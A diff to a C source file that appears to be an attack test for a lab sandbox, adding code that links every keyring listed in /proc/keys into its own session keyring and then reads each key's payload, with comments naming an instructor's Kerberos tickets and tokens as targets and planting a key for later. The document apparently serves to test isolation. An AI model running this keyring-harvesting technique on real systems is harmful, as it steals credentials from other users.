@@ -1,8 +1,10 @@
 // attack: reads every key in the session and user keyrings it inherited
 // (an instructor's Kerberos tickets and tokens live there), and every key
-// /proc/keys lets it see by its id (in the ordinary-user mode a run has
-// the TA's user, whose user keyring a fresh session keyring does not
-// hide), and plants one of its own for later; then does the lab
+// /proc/keys lets it see by its id, after linking every keyring listed
+// there into its own session keyring (in the ordinary-user mode a run has
+// the TA's user, who may link the TA's user keyring; a fresh session
+// keyring does not hide it), and plants one of its own for later; then
+// does the lab
 // expect: full
 #include "lab.h"
 #include <stdio.h>
@@ -63,11 +65,21 @@ static void read_keys(long keyring, const char *name)
 
 #define KEY_SPEC_USER_SESSION_KEYRING (-5)
 
-/* Every key /proc/keys shows (its first column is the id, in hex). */
+#define KEYCTL_LINK 8
+
+/* Every key /proc/keys shows (its first column is the id, in hex): first
+ * every keyring there is linked into the run's own session keyring (a
+ * user may link their user keyring anywhere), which makes the keys in it
+ * the run's to read; then each is read. */
 static void read_visible_keys(void)
 {
     FILE *f = fopen("/proc/keys", "r");
     char line[512];
+    while (f && fgets(line, sizeof line, f))
+        if (strstr(line, " keyring "))
+            syscall(SYS_keyctl, KEYCTL_LINK, strtol(line, NULL, 16), KEY_SPEC_SESSION_KEYRING);
+    if (f)
+        rewind(f);
     while (f && fgets(line, sizeof line, f)) {
         long id = strtol(line, NULL, 16);
         char payload[4096];
